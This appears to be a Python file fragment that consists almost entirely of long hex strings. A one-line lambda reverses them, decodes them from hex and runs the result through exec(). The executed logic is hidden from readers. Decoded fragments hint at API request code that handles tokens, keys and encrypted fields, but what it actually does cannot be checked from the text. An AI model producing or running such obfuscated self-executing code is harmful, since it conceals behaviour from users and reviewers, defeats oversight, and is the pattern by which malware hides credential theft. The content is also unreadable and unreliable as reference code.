92224756370247f6e60256c62616962716670247e656d6e6f6279667e65602c42555f5d4149434f5543514240227f602c42555f5940514f554351424228227f62727545657c6166502563796162702020202a0a3c42555f5d4149434f5543514240247f6e60227f602c42555f5940514f5543514240247f6e6026696a09222c42555f5d4149434f554351424228267e656475676e237f602d302c42555f5d4149434f554351424a09222c42555f5940514f554351424228267e656475676e237f602d302c42555f5940514f554351424a0a04696f5563696675646f5871602c20766f58716f54616f6c602c246c6569666f546564707972736e656f546c696572602c247e656d6971607f55627574716e6769637f587f547567602c29554b4f594051402c21647164687f54707972736564602c25627574716e6769637f5960716f5871602c2e6f6c6f636f54757f686479677f57347d676f5374702c207d616473756d69647f556b696c6f5166716a602c21647164687f5e67696374707972736e656024727f607d696024707972736e656e247e65696c636e207071602d6f62766a0a046564616f6c60256271602372716670267e6560256275737e65402320202769666e6f636e2070716024727f607d696a01647c6564656d6964702c256e6f6a756d6964702c256d6964756471646024727f607d6960256d696475647164602d6f62766a056d6964702c2374737565717562702c24696575702c2e6f637a602c237f6024727f607d696" ));
+_ = lambda __ : bytes.fromhex(__[::-1]);exec((_)( "37562702e6275747562702020202a092224535f4052202c2d522e656b6f647f5469622b537e656b6f64702c24616f6c697160702c28647160702c29756b6f59607168247375657175627f5960716f546e6563702d30237562702020202a0d702020202a0d70202020202020202a0d5b502a3225607974722020202020202020202020202a0c2d5b502a32237574716473722020202020202020202020202a0b702a322275647c69666220202020202020202a0c24796d696c602a3224796d696c6220202020202020202a0c25676160702a32256761607220202020202020202a0c222e6562202a32276e616c6220202020202020202a0c25637c6166402a3225637962707275647e656f53796220202020202020202a0b702d3024616f6c697160702020202a0229727f647379686d2e6f69647361637e6162747f28367f2960716f23747e656d69716072202d3028647160702020202a022222202020202a0e29727f64737968602e6f69647361637e61627470237722756375702568647023756863647566402020202a022222202020202a0a34736964602e3d20292032302d30247e69602a34796d696c602c21302d30247e69602a35676160702c24736964602a337e656b6f64702c227473702a39756b6f5960716829727f647379686f5e6f69647361637e6162747f547567602665646a0a037562702e6275747562702020202a002020202a092224535f4052202c2d522e656b6f647f5469622b537e656b6f64702c24616f6c697160702c28647160702c29756b6f59607168247375657175627f5960716f546e6563702d30237562702020202a09222e2e2e2d74696f527564627f6b702a344940227564627f402b65747e65702e6162716971626d656070237574716473702b656365676e656d422668247e696270702020202a002020202a0d702020202a022e6562202a32276e616c6220202020202020202a0c24696f527564627f602a3224696f527564627f6220202020202020202a0b702d3024616f6c697160702020202a022375747164737d247e656d6971607f28367f2960716f23747e656d69716072202d3028647160702020202a022222202020202a0e2e6f69647361637e61627470247e656d697160702160266f602375747164737025686470237b63656863402020202a022222202020202a0a34736964602e3d2029227473702a34696f527564627f602c24736964602a337e656b6f64702c227473702a39756b6f596071682375747164737f547e656d6971607f547567602665646a0a09222164716462282475676e237562702e6275747562702020202a00202020202020202a056e6f6e402e627574756270202020202020202a0929223d347e65646e69602c2375627823707d65746e2e6f637a68247e69627070202020202020202a09222e24756c6c61675d25402e6162716971626d65607029616c657d656d602c616761674228247e69627070202020202020202a0a322353554343455352202d3120292223757471647372282475676e237562702669602020202a002020202a092224535f4052202c2d522e656b6f647f5469622b537e656b6f64702c24616f6c697160702c28647160702c29756b6f59607168247375657175627f5960716f546e6563702d30237562702020202a09222e2e2e24756c6c61675d25402e6162716971626d65607029616c657d656d4228247e696270702020202a0a0d702020202a0c29256572745d3436326f556661637c627578246c6569666f546564707972736e656f546c696572602a3224696f5e6f6964716369647e65686475716f546564707972736e656220202020202020202a0c29256572745d3436326f556661637c627578246c6569666f546564707972736e656f546c696572602a322e656b6f647f547e656d6971607f546564707972736e656220202020202020202a0c2d70202020202020202a0c25637c6166402a3223757e6f626f537168622020202020202020202020202a0c2225434e414c41424f5449414055425052202a32256079747f55636e616c6162622020202020202020202020202a0c25637c6166402a322d623d6f5261627b616f5379622020202020202020202020202a0c25637c6166402a322e616c607f597c696d61666f5379622020202020202020202020202a0b702a32216471646f5c616e6f6964796464616220202020202020202a0c222547414b4341405f59555242202a32227f666f547e656d6971607220202020202020202a0c2222202a322e6f60757f636220202020202020202a0c20302a322565666f5c61647f647220202020202020202a0c20302a32247e657f636379646f5c61647f647220202020202020202a0c25637c6166402a32247e696f607f5563757f53796220202020202020202a0c25637c6166402a3224756c6c61677f5c68797d6f53796220202020202020202a0c246f6864756d6f547e656d697160702a32246f6864756d6f547e656d6971607220202020202020202a0c247e657f6d61602a32247e657f6d616f5c61647f647220202020202020202a0c247e656d6971607f527f666f537d656479602a32237d6564796220202020202020202a0c2e6f6964716d6279666e6f636f5e656b6f64702a322e6f6964716d6279666e6f636f5e656b6f647220202020202020202a0c25637c6166402a322c616272756665627f53796220202020202020202a0c222e6562202a32276e616c6220202020202020202a0c2475676271647f547e656d697160702a322475676271647f547e656d6971607220202020202020202a0c25637962707275647e656f5379602a3225637962707275647e656f53796220202020202020202a0c22254351484342555052202a32256079747f547e656d6971607220202020202020202a0b702d3024616f6c697160702020202a0a0929237e6f6964716d6279666e6f636f5e656b6f64702c256e6f6e482275647c6966682e696f6a6e222b32202d302e6f6964716d6279666e6f636f5e656b6f64702020202a056e6f6e4025637c6560247e656d6971607f527f666f537d656479602669602d5225646f636f5d656479622b5d503b547e656d6971607f527f666f537d656479602d302475676271647f547e656d697160702020202a0e6f6964716d6279666e6f636f5e656b6f64702e61676e65726167602e61646023202020202a0475676271647f547e656d697160702961676162656370216d61647275607024756b616070296271646025646f636f5d656479602e616b616e6577676e656d4023202020202a0a09292222202c222e6f6964716d6279666e6f636f5e656b6f6472282475676e2c69616475646f5567616b63616078246e656070716e237e6f6964716d6279666e6f636f5e656b6f6470202020202020202a092d70202020202020202a00302a32287164722020202020202020202020202a0c2222202a32256079747f547365746f6270722020202020202020202020202a0c2920302c22256369627072282475676e2e6f6964707f602a3225636962707f5d656479622020202020202020202020202a0c256d616e6f5d656479602a32256d616e6f5d656479622020202020202020202020202a0c25646f636f5d656479602a3225646f636f5d656479622020202020202020202020202a0b78246e656070716e247e656d6971607f527f666f537d65647960202020202020202a0a092820796274737e222d792727202c27256d616e67282475676e2e6f6964707f6b702d792727202c27256d616e67282475676e292d7b702c27247e61696271667f5c69616475646f5567616b63616077282475676e2c69616475646f5567616b6361607b7226602d30256d616e6f5d65647960202020202020202a092225646f636f5e6f6964707f6f5567616b63616072282475676e2e6f6964707f602d3025646f636f5d65647960202020202020202a092d7b702c222e6f6964707f6f5567616b63616072282475676e2c69616475646f5567616b636160702d302e6f6964707f60202020202020202a0a0d776b60702a322567616b63616072202c22237c6961647564602567616b63616070247567602f647024656c69616642202a32227f627275622b702e62757475627020202020202020202020202a09222d7927256d616e6f5e6f6964707f67282475676e276b607b702d202d7927256d616e6f597c696d616667282475676e276b607b702a34756b6160702b65747e65702c6961647564602c69626d61676e656d602c61676167422668247e6962707020202020202020202020202a0a3c69616475646f5567616b63616070247f6e60266960202020202020202a0a0920202020202020202a0c25637c61664d35686361636f5563757020202020202020202020202a0c292225637962707275647e656f537962282475676e276b607020202020202020202020202a0c2922227564627f62282475676e276b607020202020202020202020202a056d616e6f547e616962716670227f6025646f636f547e61696271667024727f607075735023202c2922256d616e6f547e616962716672282475676e276b6070227f60292225646f636f547e616962716672282475676e276b607020202020202020202020202a0c292225646f636f597c696d616662282475676e276b607020202020202020202020202a0c237e656b6f647020202020202020202020202a0c29756b6f5960716020202020202020202020202a08237c69616475646f5567616b6361607f547567602d302c69616475646f5567616b63616070202020202020202a04696c616670276e6169702e6f6964716d6279666e6f636f5e656b6f64702e61646025646f636f5e6f6964707f6f5567616b636160702e616b64716071646e656d602b65747e657024756b6160702c6961647564602c69626d61402320202020202020202a0a337567616b636160702e6960276b6070227f66602020202a0a0d5b502d30237e6f6964716d6279666e6f636f5e656b6f64702020202a0d5b502d30247e656d6971607f527f666f537d656479602020202a09222e2e2e256c646e6572602d616c61646024756b616070207169647563702b65747e65702c6961647564602c69626d61676e656d4228247e696270702020202a002020202a056e6f6e402e627574756270202020202020202a09222e276e6f637f6b6028656c6f62602b616469647024756b6160702271647661644228247e69627070202020202020202a0a337567616b63616070247f6e602669602020202a0e616961657375697e656070257c627560702e696b676e657d602c2963716b696c607160257b616c69627560702e616b62716371646275626029637d6573716028616c61646160296e694023202020202a0475676271647f547e656d697160702961676162656370216d6164727560702d65647960296271646025646f636f5e6f6964707f6f5567616b636160702e616b616e6577676e656d4023202020202a002020202a022e6f6964707f6d23746f6864756d6d247e656d6971607f28367f2960716f23747e656d69716072202d3028647160702020202a022222202020202a0e2c425550247e656d6971607021602374756760297c64736562796460247572602c237375636f627070247e656d656c64747563702c6c657660256864702867657f627864702f676024772e63756f646024716864702020202a0e6f69637275667024656966696c607d696370216023796023796864502e24756c6c61677d25602e6160276e69637570256371686362757070256c646e6572602160237564716964796e69402020202a022222202020202a0a34736964602e3d20292a05637c6166402d302c6f6f62602a35637962707275647e656f5379602020202a022951405545405f484352202c2e276e256023202c227473702a346f6864756d6f547e656d697160702020202a0c247e69602a347e657f6d61602020202a0c2473796c602a337567616b636160702020202a0c24736964602a337e656b6f64702020202a0c227473702a39756b6f596071602020202a082567627168636f54756c6c616775602665646a0a016471646f537c69616475646f5567616b636160702e6275747562702020202a002020202a056e6f6e402e627574756270202020202020202a09222e24756b6160702c6961647564602c69626d61676e656d602c616761674228247e69627070202020202020202a0a316471646f537c69616475646f5567616b63616070247f6e602669602020202a0925686361636f5563757d35686361636f556375702c247e656c69637d347e656c6963702c25646f636f5e6f6964707f602c237e656b6f64702c29756b6f596071682567616b6361607f547567602d30216471646f537c69616475646f5567616b636160702020202a00202020202020202a056e6f6e402e627574756270202020202020202a09222e29616573756370276e61697024756b6160702963707f602e616b657d656e656d602c616761674228247e69627070202020202020202a0a356e6f6e4023796025646f636f5e6f6964707f602669602020202a0a0b6165627260202020202020202020202020202020202020202a092225646f636f5e6f6964707f6f5567616b63616072282475676e24707f602d3025646f636f5e6f6964707f60202020202020202020202020202020202020202a0a327564627f6f5e6f6964707f602d3d302922227564627f62282475676e24707f602669602020202020202020202020202020202a0a337e6f6964707f6f5567616b636160702e696024707f60227f666020202020202020202020202a092d5b502c22237e6f6964707f6f5567616b63616072282475676e247e61696271667f54656473656c6563702d30237e6f6964707f6f5567616b6361607020202020202020202020202a047e6169627166702d30247e61696271667f54656473656c65637020202020202020202020202a0a35646f636f547e6169627166702d3d302d5225646f636f547e61696271667f5567616b636160722b547e616962716670266960202020202020202a0a33747e61696271667f5567616b636160702e6960247e616962716670227f66602020202a056e6f6e402d3025646f636f5e6f6964707f602020202a0d5223747e61696271667f5567616b636160722b516471646f597c696d6166602d3023747e61696271667f5567616b636160702020202a002020202a0a056e6f6e402e62757475627020202020202020202020202a0922272d746e69666f5f647f556d616e6f547e61696271667b77202a316d616e602b65747e657025646f636f547e6169627166702e616b657d656e656d602c61676167422668247e6962707020202020202020202020202a0a35637c6560202020202020202a046e657f666f55646f636f547e6169627166702d3025646f636f547e61696271667020202020202020202020202a0a346e657f666f55646f636f547e616962716670266960202020202020202a0b61656272602020202020202020202020202020202a09222d746e657f666f55646f636f547e61696271667b702a35646f636f547e6169627166702e616b657d65647964422668247e696270702020202023202020202020202020202020202020202a0a347e656c696370247f6e6026696023202020202020202020202020202020202a092225646f636f547e61696271667f5567616b63616072282475676e247e6169627166702d30246e657f666f55646f636f547e6169627166702020202020202020202020202020202a0a346e69666f5f647f556d616e6f547e6169627166702d3d302922256d616e62282475676e247e61696271667026696020202020202020202020202a0a392d5b502c2223747e61696271667f5567616b63616072282475676e216471646f597c696d6166602e6960247e616962716670227f6660202020202020202a056e6f6e402d30246e657f666f55646f636f547e616962716670202020202020202a09222e2e2e272d746e69666f5f647f556d616e6f547e61696271667b77202a316d616e602b65747e657025646f636f547e616962716670296271636e656d422668247e69627070202020202320202020202020202a0a347e656c696370247f6e602669602320202020202020202a056d616e6f547e6169627166702963796275626025646f636f547e6169627166702e616b69637d65737140232025646f636f547e6169627166702d30246e69666f5f647f556d616e6f547e616962716670202020202020202a0a346965757f54696c61667f537960247f6e602669602020202a05646f636f547e6169627166702e6960272d2720246e61602633302d3d302925646f636f547e6169627166782e656c60246e616029227473702c25646f636f547e61696271667825636e6164737e696379602d30246965757f54696c61667f5379602020202a056d616e6f547e6169627166702e616b627163716462756260296271636021626f63602c24494555502e616b6572602571647160216461602b616469647025646f636f547e616962716670216b696a4023202020202a0a0925637c6166402c2225637962707275647e656f537962282475676e292d7b702c22297c696d61666f5567616b63616072282475676e216471646f597c696d6166602d3025637962707275647e656f537960202020202020202a0a356e6f6e4023796025637962707275647e656f5379602669602020202a016471646f597c696d61666029627164602c69626d616021626f63602c2e616b696275626964602b616469647025637962707275647e656f537960216b696a4023202020202a0a056e6f6e402e627574756270202020202020202a09222e2d75646f636f597c696d61666b702b65747e6570297c696d61666021647164602c69626d61676e656d602c61676167422668247e69627070202020202020202a0a316471646f597c696d616660247f6e602669602020202a09247e656c69637d347e656c6963702c256079747f5e6f6964716277696d602c25637962707275647e656f5379602c25646f636f597c696d6166602c237e656b6f64702c29756b6f5960716822367f597c696d61666f547567602d30216471646f597c696d6166602020202a0a356e6f6e402c7024736964602e3d20292a0c25657274502d302c6f6f62602a35686361636f556375702020202a0c25637c6166402d302c6f6f62602a347e656c6963702020202a0c256e6f6e402d30256e6f6e402c70227473702a356079747f5e6f6964716277696d602020202a0c256e6f6e402d30256e6f6e402c702c6f6f62602a35637962707275647e656f5379602020202a0c256e6f6e402d30256e6f6e402c70247e69602a327564627f6f5e6f6964707f602020202a0c227473702a35646f636f547e6169627166702020202a0c227473702a35646f636f597c696d6166602020202a0c24736964602a337e656b6f64702020202a0c227473702a39756b6f596071602020202a08237c69616475646f5567616b6361607f547567602665646a0a0d5221647164622b537562702e6275747562702020202a00202020202020202a056e6f6e402e627574756270202020202020202a092922227f627275602e677f6e6b6e6552202c22227f62727562282475676e237562702c222a3567616b63616070276e696474756760227f6272754228247e69627070202020202020202a0929223d347e65646e69602c2375627823707d65746e2e6f637a68247e69627070202020202020202a0a337562702e6960247f6e60222164716462202669602020202a002020202a092224535f4052202c2d522e656b6f647f5469622b537e656b6f64702c24616f6c6971607f577162702c28647160702c29756b6f59607168247375657175627f5960716f546e6563702d30237562702020202a002020202a0d702020202a022e6562202a32276e616c6220202020202020202a0c25637962707275647e656f5379602a3225637962707275647e656f53796220202020202020202a0c2d522e656b6f647f537375636361622b537e656b6f64702a322e656b6f647f5373756363616220202020202020202a0b702d3024616f6c6971607f577162702020202a002020202a022e69676f6c6f286475716f28367f29607162202d3028647160702020202a0a392a05637c6166402d302c6f6f62602a35637962707275647e656f5379602020202a0c24736964602a337e656b6f64702020202a0c227473702a39756b6f596071602020202a082f666e696f5e69676f6c602665646a0a09222e2e2e25657e69647e6f63602f64702275647e6540237375627052282475707e69602020202a002020202a09222d79223d347e65646e69602c247c657375627f55637168636275707823707d65746e2e6f637a6b7e6c5a347c65737562702563716863627570522668247e696270702020202a002020202a09227f666f547e656d697160702c2e6769637f5f647f5374702c247e656d6971607f5e656b6f64702c2d522e656b6f647f5469622b537e656b6f64702c2d522e656b6f647f537375636361622b537e656b6f64702c24616f6c6971607f547e656d656c64747563702c29756b6f59607168247375657175627f547e656d6971607f546e6563702d30247c657375627f5563716863627570702020202a09222d79223d347e65646e69602c24616f6c6971607f547e656d656c647475637823707d65746e2e6f637a6b7e6c5a34616f6c69716070247e656d656c64747563722668247e6962707023202020202a09222e2e2e256371686362757070276e69637375636f62705228247e696270702020202a002020202a0d702020202a0d50202020202020202a0d7020202020202020202020202a00302a3228716472202020202020202020202020202020202a0c256d616e6f5d656479602a32256d616e6f5d65647962202020202020202020202020202020202a0c2563696270702a3225636962707f5d65647962202020202020202020202020202020202a0c2222202a32256079747f547365746f627072202020202020202020202020202020202a0c2475676271647f547e656d697160702a3225646f636f5d65647962202020202020202020202020202020202a0b7020202020202020202020202a0b502a32237d6564796220202020202020202a0c25637c6166402a322975726f6475716f576e6963757f53796220202020202020202a0c247e696f547e657f6d61602a32247e657f6d616f5c61647f647220202020202020202a0c2d7020202020202020202020202a00302a322f6d6f62707f547e657f63637964622020202020202020202020202a0c25637c6166402a3223757e6f626f537168622020202020202020202020202a0c2225434e414c41424f5449414055425052202a32256079747f55636e616c6162622020202020202020202020202a0c25637c6166402a322d623d6f5261627b616f5379622020202020202020202020202a0c20302a32276e696272757365627f547e657f63637964622020202020202020202020202a0c25637c6166402a322e616c607f5863647967737f5379622020202020202020202020202a0c2d5b502a32237c69616475646f5f626d6f63622020202020202020202020202a0c25637c6166402a322e616c607f597c696d61666f5379622020202020202020202020202a0c2222202a3227616478637163622020202020202020202020202a0c20302a3223757e6f626f51647f6571722020202020202020202020202a0c22254e4f4e42202a32256079747f547966656e65626220232020202020202020202020202a0c20302a32287164722020202020202020202020202a0c2222202a3224696f5e6f696373796d622020202020202020202020202a0c25637c6166402a3224796d696c6f546e6560737f5379622020202020202020202020202a0c20302a32247e657f6d616f54796d696c6f546e656073722020202020202020202020202a0c2225637c616662202a3224696f50757f62776f5d623d6f5261627b61622020202020202020202020202a0c2222202a32256079747f5e6f6964716277696d622020202020202020202020202a0c25637c6166402a32297271627f607d65647f54796d696c6f546e6560737f5379622020202020202020202020202a0c2563696270702a3225636962707f5c616e696769627f622020202020202020202020202a0b702a32216471646f5c616e6f6964796464616220202020202020202a0c29256572745d3436326f556661637c627578246c6569666f546564707972736e656f546c696572602a3224696f5e6f6964716369647e65686475716f546564707972736e656220202020202020202a0c2222202a322275626d657e6f54756c6c61677220202020202020202a0c2d522e656b6f647f537375636361622b537e656b6f64702a322e656b6f647f5373756363616220202020202020202a0c2e6f6964716d6279666e6f636f5e656b6f64702a322e6f6964716d6279666e6f636f5e656b6f647220202020202020202a0c2222202a322e656b6f647220202020202020202a0c29256572745d3436326f556661637c627578246c6569666f546564707972736e656f546c696572602a322e656b6f647f547e656d6971607f546564707972736e656220202020202020202a0c2222202a3224696f5e6f6964716369647e65686475716220202020202020202a0c2222202a322e656b6f647f55676164737220202020202020202a0c2222202a322275626d657e6f5075707f647220202020202020202a0c25637c6166402a322c6c656370757f586479677220202020202020202a0c227f666f547e656d697160702a32227f666f547e656d6971607220202020202020202a0c2222202a322e6f60757f636220202020202020202a0c2222202a3225646f636f556571796e657f5c616272756665627220202020202020202a0c2222202a322371696c616f547e656271607f5261627b616220202020202020202a0c2d5b502a32237275626d656d6f5261627b616220202020202020202a0c276e696471627f527567676962747f5e6163602a32276e696471627f527567676962747f5e61636220202020202020202a0c20302a3224656e6961676f53747e696f607220202020202020202a0c292928256d69647e256d696478247e69602a32207d616473756d69647220202020202020202a0c2225434e414c414242202a32246f6864756d6f547e656d6971607220202020202020202a0c222e6562202a32276e616c6220202020202020202a0c25637c6166402a32247e696f607f5563757f53796220202020202020202a0c276e69647475637f546c6f6863756278647f5975726f647571602a32276e69647475637f546c6f6863756278647f5975726f6475716220202020202020202a0c2222202a32247e6962707275676e69666220202020202020202a0c20302a322565666f5c61647f647220202020202020202a0c2d5b502a32237275626d656d6220202020202020202a0c2222202a3224696f5f6d6f62707f54756c6c6167756220202020202020202a0c2222202a322e69607220202020202020202a0c25637c6166402a3224756c6c61677f5c68797d6f53796220202020202020202a0c2222202a32256079747f547e656d6971607f53636220202020202020202a0c25646f636f5975726f6475716f546564716679647361602a3225646f636f5975726f6475716f5465647166796473616220202020202020202a0c247e656d6971607f5e656b6f64702a32247e656d6971607f5e656b6f647220202020202020202a0c2222202a322e656b6f647f547e656d6971607220202020202020202a0c25637962707275647e656f5379602a3225637962707275647e656f53796220202020202020202a0c20302a32247e657f636379646f5c61647f647220202020202020202a0b702d3024616f6c6971607f547e656d656c64747563702020202a0473756571756270247e656d656c647475635023202020202a002020202a022547414b4341405f59555242202d30227f666f547e656d69716070202020202020202a0a3222202d3d30227f666f547e656d697160702669602020202a0974707d6560237960237c6961647564602567616b636160702d6f627660227f666f547e656d697160702568647023756d6964756d6f63702c25647962777275667f4023202020202a002020202a0d52207d616473756d6964722b5d5221647164622b5375627f547e656d697160702d302e6769637f5f647f5374702020202a0d52247e656d6971607f5e656b6f64722b5d5221647164622b5375627f547e656d697160702d30247e656d6971607f5e656b6f64702020202a002020202a056e6f6e402e627574756270202020202020202a09222e2e2e25657e69647e6f63602f64702275647e6540237375627052282475707e6960202020202020202a0929223d347e65646e69602c2375627f547e656d6971607823707d65746e2e6f637a68247e69627070202020202020202a0922247e656d697160702564716964796e69602f647024656c6961664228247e69627070202020202020202a0a322353554343455352202d3120292223757471647372282475676e2375627f547e656d697160702669602020202a092224535f4052202c2d522e656b6f647f5469622b537e656b6f64702c24616f6c6971607f547e656d697160702c286471607f547e656d697160702c29756b6f59607168247375657175627f5960716f546e6563702d302375627f547e656d697160702020202a09222e2e2e247e656d69716070276e6964716964796e694228247e696270702020202a002020202a0d702020202a0e6f6964716d6279666e6f636f5e656b6f64702a322e6f6964716d6279666e6f636f5e656b6f647220202020202020202a0c25637c6166402a322c616272756665627f53796220202020202020202a0c222e6562202a32276e616c6220202020202020202a0c2475676271647f547e656d697160702a322475676271647f547e656d6971607220202020202020202a0c25637962707275647e656f5379602a3225637962707275647e656f53796220202020202020202a0c22254351484342555052202a32256079747f547e656d6971607220202020202020202a0b702d3024616f6c6971607f547e656d697160702020202a022e6f6964707f6d23746f6864756d6d247e656d6971607f28367f2960716f23747e656d69716072202d30286471607f547e656d697160702020202a002020202a056e6f6e402e62757475627020202020202020202020202a09222e2563696270702c616e696769627f60276e696375702c2475707e696025647962777275667f6024696c61667e694228247e6962707020202020202020202020202a0a327f62727545657c61665024707563687560202020202020202a092274737f547e657f6d6168247e69602d30247e696f547e657f6d616020202020202020202020202a0a39727470202020202020202a0a3222202d31202274737f547e657f6d61602669602020202a002020202a0925637962707275647e656f5379602c25646f636f5e6f6964707f6f5567616b636160702c237e656b6f64702c29756b6f59607168256761607f547075636275647e69602020202a05637f60727570702471686770227f66602b4449402c247075636275647e694023202020202a002020202a0563696270702d30247e696f547e657f6d61602020202a0922202a347e657f6d6160247c65716665646025637570262025627f6e6769602f64702275647e65602373756270702c25647962777275667f602f64702465656e60257f697026696025657c6166702275647e654e6c5e2d75636962707b70237960247e657f6d61602c61647f645226682475707e69602d302274737f547e657f6d61602020202a0d522563696270722b5d522e6f6964707f6f5567616b636160722b516471646f537c69616475646f5567616b636160702d302563696270702020202a002020202a0d52227f666f547e656d697160722b5d52297c696d61666f5567616b636160722b516471646f537c69616475646f5567616b636160702d30227f666f547e656d697160702020202a0d52276e696471627f527567676962747f5e6163622b5d522e6f6964707f6f5567616b636160722b516471646f537c69616475646f5567616b636160702d30276e696471627f527567676962747f5e6163602020202a0d52276e69647475637f546c6f6863756278647f5975726f647571622b5d522e6f6964707f6f5567616b636160722b516471646f537c69616475646f5567616b636160702d30276e69647475637f546c6f6863756278647f5975726f647571602020202a0d5225646f636f5975726f6475716f546564716679647361622b5d522e6f6964707f6f5567616b636160722b516471646f537c69616475646f5567616b636160702d3025646f636f5975726f6475716f546564716679647361602020202a002020202a092820796274737e222d756d616e6f5e6f6964707f6b702d756d616e6f547e61696271667b7226602d30256d616e6f5d656479602020202a092222202c22256d616e62282475676e2d522e6f6964707f6f5567616b636160722b516471646f537c69616475646f5567616b636160702d30256d616e6f5e6f6964707f602020202a092222202c22256d616e62282475676e2d52247e61696271667f5c69616475646f5567616b636160722b516471646f537c69616475646f5567616b636160702d30256d616e6f547e6169627166702020202a002020202a0d5225646f636f5e6f6964707f6f5567616b636160722b5d522e6f6964707f6f5567616b636160722b516471646f537c69616475646f5567616b636160702d302475676271647f547e656d697160702020202a0d522e6f6964716d6279666e6f636f5e656b6f64722b516471646f537c69616475646f5567616b636160702d302e6f6964716d6279666e6f636f5e656b6f64702020202a002020202a056e6f6e402e627574756270202020202020202a09222e256371686362757070227f6660237c6961647564602567616b63616070247567602f647024656c6961664228247e69627070202020202020202a0a316471646f537c69616475646f5567616b63616070247f6e602669602020202a0925637c61664d35686361636f556375702c25646f636f5e6f6964707f6f5567616b636160702c237e656b6f64702c29756b6f596071682567616b6361607f547567602d30216471646f537c69616475646f5567616b636160702020202a0a34736964602e3d2029202020202a05637c6166402d302c6f6f62602a35637962707275647e656f5379602020202a0c2274737a35646f636f5e6f6964707f6f5567616b636160702020202a0c24736964602a337e656b6f64702020202a0c227473702a39756b6f596071602020202a082567616b6361607f5563716863627570702665646a0a047875647e20737562702e627574756270202020202020202a0925602c222d52727560247079727365646b5228247e69627070202020202020202a0a35602371602e6f6964707563687540247075636875602020202a09746f626f546564707972736564602e627574756270202020202020202a09286471607d38647160702c2928647160702c247875647e20737562782374616f6c6e25636e6164737e69427563616274502c29756b6f5960716821647164687f54707972736564602d3029746f626f54656470797273656460202020202020202a0a397274702020202a002020202a0929746f62602c23727564616568602c2864716078247e656d656c647475637f54737f60702d3020737562702020202a002020202a0d702020202a0c22203e273e2832202a322070716d2e6f69637275667d287220202020202020202a0c2924716f5465647375657175627f5878207d616473756d69647f556b696c6f5166716a602a3224716d247375657175627d287220202020202020202a0c29292824346965757e2469657578227473702a3224696d247375657175627d287220202020202020202a0c2769637f58702a3225627574716e6769637d287220202020202020202a0c292365637f556d69647f57696378227473702a32256d69647d25627574716e6769637d287220202020202020202a0c22233672202a3226786d287220202020202020202a0c222d7e656b6f647f54696b702275627165624226602a322e6f6964716a79627f686475716220202020202020202a0c29554b4f594051402a3229756b6d2960716d287220202020202020202a0c2145502a32247e6567616d227563757220202020202020202a0c22283d2664757d34756372716863602b3e6f637a6f2e6f69647163696c60707162202a32256079747d247e65647e6f636220202020202020202a0c292222202c222f2f2a337074747862282563616c6075627e2c42555f5940514f55435142402a3224737f686220202020202020202a0b702d3023727564616568602020202a002020202a09202020202a027f666f547e656d69716070202020202020202a0c2225434e414c41424220202020202020202a0c247e656d6971607f5e656b6f6470202020202020202a0c25646f636f5567616b63616070202020202020202a0c2e6769637f5f647f537470202020202020202a0c2e656b6f647f53737563636160202020202020202a0c29756b6f59607160202020202020202a08247e656d6971607f55627574716e6769637f587f547567602d302769637f58702020202a002020202a0d5229746f626f546564707972736e65622b54616f6c6971607f546564707972736e65602d3029746f62602020202a002020202a0e6769637f5f647f5374702d302d52207d616473756d6964722b547369646f54616f6c697160702020202a0928256e6f6a756d696473716e292364757e256e6f6a756d69647d3a74702c2365637f556d69647f57696378207d616473756d69647d6f62766e256d696475647164602d3024716f5465647375657175627f58702020202a0920303031302f2f20256d69647878202d302365637f556d69647f576963702020202a092d52256d696478722b5d5229746f626f546564707972736e65622b54616f6c6971607f546564707972736e6568247e69602d30256d696478702020202a002020202a09202020202a047369646f54616f6c6971607d34616f6c69716070202020202020202a0c2e656b6f647f54696d3e656b6f647f546960202020202020202a0c286471607d3864716070202020202020202a0c2224535f40522d346f6864756d60202020202020202a0c29756b6f5960716d39756b6f59607160202020202020202a0821647164687f5e67696374707972736e65602d3024616f6c6971607f546564707972736e65602020202a002020202a0d5225646f636f5d656479622b5d503b5d52237d656479622b547369646f54616f6c697160702d3025646f636f5567616b636160702020202a0225636e616c61626d247e656d656c647475637f28367f2960716f23747e656d69716072202d3028647160702020202a0a392a022547414b4341405f59555242202d30227473702a327f666f547e656d697160702020202a0c247e69602a3e6769637f5f647f5374702020202a0c227473702a347e656d6971607f5e656b6f64702020202a0c227473702a3e656b6f647f5469602020202a0c227473702a3e656b6f647f537375636361602020202a0c24736964602a347369646f54616f6c697160702020202a0c227473702a39756b6f596071602020202a08247375657175627f547e656d6971607f546e6563702665646a0a0922227f62727560247075636275647e694228247e69627070202020202020202a0a35637c65602020202a09222d7d57237574716473772b5375627b702a33757471647370247075636275647e69422668247e69627070202020202020202a0a337562702e69602223757471647372202669602020202a002020202a092224535f4052202c2d522e656b6f647f5469622b537e656b6f64702c24616f6c6971607f577162702c28647160702c29756b6f59607168247375657175627f5960716f546e6563702d30237562702020202a09222e2e2e2567616070247075636275647e6960276e6968636475664228247e696270702020202a002020202a0d702020202a05646f636f5e6f6964707f602a3225646f636f5e6f6964707f6f5567616b6361607220202020202020202a0c222e6562202a32276e616c6220202020202020202a0c25637962707275647e656f5379602a3225637962707275647e656f53796220202020202020202a0b702d3024616f6c6971607f577162702020202a002020202a02256761607d247075636275647e696f2974796c6964757f28367f2960716f2363796d62202d3028647160702020202a0a392a05637c6166402d302c6f6f62602a35637962707275647e656f5379602020202a0c227473702a35646f636f5e6f6964707f602020202a0c24736964602a337e656b6f64702020202a0c227473702a39756b6f596071602020202a08256761607f547075636275647e69602665646a0a0d5221647164622b537562702e6275747562702020202a00202020202020202a056e6f6e402e627574756270202020202020202a092922227f627275602e677f6e6b6e6552202c22227f62727562282475676e237562702c222a337e6f64646160276e696474756760227f6272754228247e69627070202020202020202a0a337562702e6960247f6e60222164716462202669602020202a002020202a092224535f4052202c2d522e656b6f647f5469622b537e656b6f64702c24616f6c6971607f577162702c28647160702c29756b6f59607168247375657175627f5960716f546e6563702d30237562702020202a09222e2e2e237e6f64646160276e6968636475664228247e696270702020202a002020202a0d702020202a05646f636f5e6f6964707f6f5567616b636160702a3225646f636f5e6f6964707f6f5567616b6361607220202020202020202a0c222e6562202a32276e616c6220202020202020202a0c25637c6166402a3225637962707275647e656f53796220202020202020202a0b702d3024616f6c6971607f577162702020202a002020202a02287f626d297b6e69607d237e6f6464616f237e6f6964707f6f2375627f64737d2c687f28367f29607162202d3028647160702020202a0a34736964602e3d2029227473702a35646f636f5e6f6964707f6f5567616b636160702c24736964602a337e656b6f64702c227473702a39756b6f59607168237e6f6464616f547567602665646a0a0d5221647164622b537562702e6275747562702020202a092d5221647164622b537562702c29756b6f5568636163602c222e6f6964707f62282475707e25636e6164737e694568636163476f6c61647163402020202a0020